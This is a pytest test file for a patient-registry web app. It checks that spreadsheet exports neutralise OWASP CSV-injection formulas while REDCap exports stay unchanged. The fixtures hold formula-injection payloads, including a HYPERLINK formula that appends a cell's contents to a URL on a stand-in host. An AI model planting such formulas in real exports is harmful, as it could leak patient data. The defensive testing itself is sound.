"""No live formulas in spreadsheets (OWASP "CSV Injection").

Files for people (analysis and instrument datasets through every door, the admin's per-instrument
spreadsheets) never hand a spreadsheet program a formula: in CSV a text value starting with `=`,
`+`, `-`, `@`, a tab or a carriage return gets a leading `'`; numbers and dates are untouched; in
Excel every text is a text cell. Files for programs (the REDCap flat format, through the REDCap API
and the admin's REDCap download) stay byte for byte what is stored.
"""
import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from rest_framework.test import APIClient

from registry.exports.cells import spreadsheet_safe
from registry.exports.columns import Column, Kind
from registry.exports.csv_writer import write_csv
from registry.models import NgsVariant, Patient
from registry.records.spreadsheet_formats import SpreadsheetCSV, SpreadsheetXLSX
from registry.services.api_tokens import api_token_create
from registry.services.datasets import dataset_export
from tests import factories
from tests.redcap.client import RedcapClient

HYPERLINK = '=HYPERLINK("https://x.example/?"&B2,"Open")'  # fits the 50 characters of mrn
SHORT_FORMULA = '=HYPERLINK("//x.example")'  # fits the 30 characters of var_gene


@pytest.mark.parametrize(("text", "shown"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1", "'+1"),
    ("-35", "'-35"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("A-1", "A-1"),
    ("G1202R", "G1202R"),
    ("", ""),
])
def test_a_text_starting_like_a_formula_gets_a_leading_quote_and_any_other_text_is_kept(text, shown):
    assert spreadsheet_safe(text) == shown


def test_the_csv_writer_quotes_formula_like_text_but_never_a_number_a_code_or_a_date():
    columns = (
        Column("pct_change_baseline", "Percent change from baseline", Kind.NUMBER),
        Column("les_note", "A free text", Kind.TEXT),
        Column("n_new", "A count", Kind.INTEGER),
        Column("ta_date", "A date", Kind.DATE),
        Column("extent", "A text code", Kind.TEXT_CODE),
        Column("line_drug", "An integer code", Kind.CODE),
    )
    stream = io.StringIO()

    write_csv(stream, columns, [
        [Decimal("-35.000000"), "-35", -3, date(2020, 1, 2), "@x", 7],
        [None, None, None, None, None, None],
    ])

    assert stream.getvalue() == (
        "pct_change_baseline,les_note,n_new,ta_date,extent,line_drug\n"
        "-35,'-35,-3,2020-01-02,'@x,7\n"
        ",,,,,\n"
    )


@pytest.fixture
def formula_patient(site_a):
    """A patient whose MRN is a formula, with a variant whose gene is one and whose protein starts with @."""
    patient = factories.make_patient(site_a, "F-1", mrn=HYPERLINK)
    factories.make_variant(
        factories.make_biopsy(patient), var_gene=SHORT_FORMULA, var_protein="@SUM(A1)", var_vaf=Decimal("12.5"),
    )
    return patient


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _formula_cells(workbook) -> list[str]:
    return [cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_a_dataset_csv_quotes_a_formula_mrn(formula_patient, tmp_path):
    output = tmp_path / "enrollment.csv"

    dataset_export(name="enrollment", output=output, file_format="csv")

    [row] = _rows(output.read_text(encoding="utf-8"))
    assert (row["record_id"], row["mrn"], row["site"]) == ("F-1", "'" + HYPERLINK, "site-a")


def test_a_dataset_in_excel_holds_a_formula_mrn_as_a_text_cell(formula_patient, tmp_path):
    output = tmp_path / "enrollment.xlsx"

    dataset_export(name="enrollment", output=output, file_format="xlsx")

    workbook = openpyxl.load_workbook(output)
    sheet = workbook["enrollment"]
    header = [cell.value for cell in sheet[1]]
    mrn = sheet.cell(row=2, column=header.index("mrn") + 1)
    assert (mrn.value, mrn.data_type) == (HYPERLINK, "s")
    assert _formula_cells(workbook) == []


def test_the_rest_api_dataset_csv_quotes_a_formula_mrn(formula_patient, administrator):
    _, secret = api_token_create(user=administrator, name="tests")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {secret}")

    response = api.get("/api/v1/datasets/enrollment/", {"format": "csv", "identified": "true"})

    assert response.status_code == 200
    [row] = _rows(b"".join(response.streaming_content).decode("utf-8"))
    assert row["mrn"] == "'" + HYPERLINK


def _admin_variant_export(client, file_format) -> bytes:
    model_admin = admin.site.get_model_admin(NgsVariant)
    resource = model_admin.get_export_resource_classes(None)[0]
    data = {"format": str(model_admin.get_export_formats().index(file_format)), "resource": "0"}
    data.update({f"ngsvariantresource_{field}": "on" for field in resource().get_export_order()})
    response = client.post(reverse("admin:registry_ngsvariant_export"), data)
    assert response.status_code == 200
    return response.content


def test_the_admin_offers_only_the_safe_csv_and_excel_spreadsheet_exports(db):
    for model in (NgsVariant, Patient):
        assert admin.site.get_model_admin(model).get_export_formats() == [SpreadsheetCSV, SpreadsheetXLSX]


def test_the_admin_variant_csv_quotes_text_columns_and_leaves_numbers(client, administrator, formula_patient):
    client.force_login(administrator)

    [row] = _rows(_admin_variant_export(client, SpreadsheetCSV).decode("utf-8-sig"))

    assert (row["record_id"], row["var_gene"], row["var_protein"], row["var_vaf"], row["var_bx_date"]) == (
        "F-1", "'" + SHORT_FORMULA, "'@SUM(A1)", "12.5", "2022-01-25",
    )


def test_the_admin_variant_excel_holds_every_text_as_a_text_cell(client, administrator, formula_patient, tmp_path):
    client.force_login(administrator)
    path = tmp_path / "variants.xlsx"
    path.write_bytes(_admin_variant_export(client, SpreadsheetXLSX))

    workbook = openpyxl.load_workbook(path)
    [header, row] = [list(cells) for cells in workbook.active.iter_rows()]
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert (cells["var_gene"].value, cells["var_gene"].data_type) == (SHORT_FORMULA, "s")
    assert (cells["var_protein"].value, cells["var_protein"].data_type) == ("@SUM(A1)", "s")
    assert _formula_cells(workbook) == []


def test_the_redcap_api_export_keeps_a_formula_like_value_byte_for_byte(client, site_a, administrator):
    factories.make_patient(site_a, "P-1", mrn="=1+1")
    _, secret = api_token_create(user=administrator, name="script")
    redcap = RedcapClient(client)

    as_csv = redcap(secret, "record", format="csv", **{"fields[0]": "mrn"}).text
    as_json = redcap(secret, "record", format="json", **{"fields[0]": "mrn"}).json()

    assert as_csv == "record_id,redcap_repeat_instrument,redcap_repeat_instance,mrn\nP-1,,,=1+1\n"
    assert [row["mrn"] for row in as_json] == ["=1+1"]


def test_the_admin_redcap_download_is_for_programs_and_keeps_a_formula_like_value(client, site_a, administrator):
    factories.make_patient(site_a, "P-1", mrn="=1+1")
    client.force_login(administrator)

    response = client.get(reverse("admin:registry_patient_export_redcap"))

    [row] = _rows(b"".join(response.streaming_content).decode("utf-8"))
    assert row["mrn"] == "=1+1"
